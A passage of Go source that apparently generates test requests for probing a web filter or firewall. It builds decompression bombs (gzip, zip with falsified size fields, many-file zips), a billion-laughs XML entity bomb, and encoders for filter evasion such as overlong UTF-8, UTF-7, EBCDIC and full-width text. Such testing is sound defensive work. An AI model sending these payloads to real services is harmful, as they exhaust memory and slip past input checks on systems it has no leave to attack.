	all = append(all, bypass{family: "bomb", name: "gzip in base64", alone: true, request: post("application/json", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(zipped(bomb[:2<<20])))+`"}`)})
	all = append(all, bypass{family: "bomb", name: "gzip in base64, long", alone: true, request: post("application/json", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(zipped(bomb)))+`"}`)})
	all = append(all, bypass{family: "bomb", name: "gzip behind text", alone: true, request: post("application/octet-stream", zipped("Some words that hardly repeat, 0123456789. "+bomb))})
	all = append(all, bypass{family: "bomb", name: "zip", alone: true, request: post("application/zip", zipBomb(bomb, false))})
	all = append(all, bypass{family: "bomb", name: "zip, size behind", alone: true, request: post("application/zip", zipBomb(bomb, true))})
	all = append(all, bypass{family: "bomb", name: "zip in multipart", alone: true, request: fileUpload("a.zip", "application/zip", zipBomb(bomb, false))})
	all = append(all, bypass{family: "bomb", name: "zip, lies", alone: true, request: post("application/zip", strings.Replace(zipBomb(bomb, false), "\x00\x00\x00\x04", "\x01\x00\x00\x00", 1))})
	all = append(all, bypass{family: "bomb", name: "zip of many", alone: true, request: post("application/zip", strings.Repeat(zipBomb(bomb[:7<<20], false), 10))})
	laughs := `<!DOCTYPE r [<!ENTITY a0 "lol">`
	for i := range 9 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	all = append(all, bypass{family: "bomb", name: "entities that multiply", alone: true, request: post("application/xml", laughs+"]><r>&a9;</r>")})
	all = append(all, bypass{family: "bomb", name: "one long entity often", alone: true, request: post("application/xml", `<!DOCTYPE r [<!ENTITY a "`+strings.Repeat("a", 30_000)+`">]><r>`+strings.Repeat("&a;", 3000)+"</r>")})
	return all
}

func percent(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }

func each(s string, f func(string) string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString(f(string(r)))
	}
	return b.String()
}

func formatted(format string) func(string) string {
	return func(s string) string {
		return each(s, func(c string) string { return fmt.Sprintf(format, []rune(c)[0]) })
	}
}

var (
	references = formatted("&#x%x;")
	decimals   = formatted("&#%d;")
	hexEscaped = formatted(`\x%02x`)
	percentU   = formatted("%%u%04x")
)

func escapedJSON(s string) string { return `"` + formatted(`\u%04x`)(s) + `"` }

func overlong(s string) string {
	return each(s, func(c string) string { return fmt.Sprintf("%%%02x%%%02x", 0xc0|c[0]>>6, 0x80|c[0]&0x3f) })
}

func fullWidth(s string) string {
	return each(s, func(c string) string {
		if c[0] <= ' ' {
			return c
		}
		return string(rune(c[0]) - '!' + 0xff01)
	})
}

func quotedPrintable(s string) string {
	return each(s, func(c string) string {
		if strings.ContainsAny(c, "<>'=/;${") {
			return fmt.Sprintf("=%02X", c[0])
		}
		return c + "=\r\n"
	})
}

func wrapped(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + line)
		s = s[76:]
	}
	return b.String() + s
}

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func utf16be(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.BigEndian.AppendUint16(b, u)
	}
	return string(b)
}

func utf32le(s string) string {
	var b []byte
	for _, r := range s {
		b = binary.LittleEndian.AppendUint32(b, uint32(r))
	}
	return string(b)
}

func utf32be(s string) string {
	var b []byte
	for _, r := range s {
		b = binary.BigEndian.AppendUint32(b, uint32(r))
	}
	return string(b)
}

// utf7 spells all but letters and digits in base64 (RFC 2152).
func utf7(s string) string {
	return each(s, func(c string) string {
		if r := c[0]; r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == ' ' || r == '.' {
			return c
		}
		return "+" + base64.RawStdEncoding.EncodeToString([]byte(utf16be(c))) + "-"
	})
}

// ebcdic writes ASCII in code page 37.
func ebcdic(s string) string {
	const printable = "\x40\x5a\x7f\x7b\x5b\x6c\x50\x7d\x4d\x5d\x5c\x4e\x6b\x60\x4b\x61" +
		"\xf0\xf1\xf2\xf3\xf4\xf5\xf6\xf7\xf8\xf9\x7a\x5e\x4c\x7e\x6e\x6f" +
		"\x7c\xc1\xc2\xc3\xc4\xc5\xc6\xc7\xc8\xc9\xd1\xd2\xd3\xd4\xd5\xd6" +
		"\xd7\xd8\xd9\xe2\xe3\xe4\xe5\xe6\xe7\xe8\xe9\xba\xe0\xbb\xb0\x6d" +
		"\x79\x81\x82\x83\x84\x85\x86\x87\x88\x89\x91\x92\x93\x94\x95\x96" +
		"\x97\x98\x99\xa2\xa3\xa4\xa5\xa6\xa7\xa8\xa9\xc0\x4f\xd0\xa1"
	b := []byte(s)
	for i, c := range b {
		b[i] = printable[c-' ']
	}
	return string(b)
}

// filler returns n bytes that compress no better than text does.
func filler(n int) string {
	rnd := rand.New(rand.NewPCG(3, 4))
	words := strings.Fields("the quick brown fox jumps over a lazy dog while seven wizards box quietly in Vienna")
	var b strings.Builder
	for b.Len() < n {
		b.WriteString(words[rnd.IntN(len(words))] + " ")
	}
	return b.String()
}

func zipped(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	io.WriteString(z, s)
	z.Close()
	return b.String()
}

// zipBomb returns an archive of one file, which says how long it is in front of it
// or behind.
func zipBomb(s string, behind bool) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "a.txt", Method: zip.Deflate}
	if behind {
		w, _ := z.CreateHeader(h)
		io.WriteString(w, s)
	} else {
		raw := deflated(s, false)
		h.CRC32, h.CompressedSize64, h.UncompressedSize64 = crc32.ChecksumIEEE([]byte(s)), uint64(len(raw)), uint64(len(s))
		w, _ := z.CreateRaw(h)
		io.WriteString(w, raw)
	}
	z.Close()
	return b.String()
}

func deflated(s string, header bool) string {
	var b bytes.Buffer
	if header {
		z := zlib.NewWriter(&b)
		io.WriteString(z, s)
		z.Close()
		return b.String()
	}
	z, _ := flate.NewWriter(&b, flate.BestCompression)
	io.WriteString(z, s)
	z.Close()
	return b.String()
}
